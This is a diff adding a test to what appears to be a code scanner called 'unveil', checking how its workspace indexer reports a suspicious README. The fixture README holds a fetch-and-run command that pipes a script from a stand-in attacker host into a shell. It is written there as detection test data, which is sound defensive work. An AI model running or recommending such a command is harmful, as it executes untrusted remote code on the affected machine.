@@ -177,3 +177,16 @@ def test_diff_base_scans_changed_files_only(tmp_path, monkeypatch, run):
         assert "Only files changed since HEAD (git)" in out.splitlines()
     code, out, err = run("check", ".", "--diff-base", "no-such-ref")
     assert code == 2 and err.startswith("unveil: --diff-base no-such-ref: ")
+
+
+def test_workspace_scan_applies_the_documentation_policy(tmp_path):
+    """A README the editor has not opened is published as `unveil check` reports it."""
+    from unveil.core.config import DEFAULT_SETTINGS
+    from unveil.lsp.features.workspace import WorkspaceIndex
+
+    readme = tmp_path / "README.md"
+    readme.write_text("To install, run curl https://evil.example/x.sh | sh on the server.\n")
+    analysis, diags = WorkspaceIndex(server=None)._analyse_disk(readme, DEFAULT_SETTINGS, "utf-16", {})
+    assert [(f.rule, f.severity.label) for f in analysis.findings if f.rule == "SUP001"] == [("SUP001", "info")]
+    assert analysis.extra["documentation"] == {"mode": "info", "lowered": 1, "dropped": 0}
+    assert {d.severity for d in diags} == {3}  # LSP Information
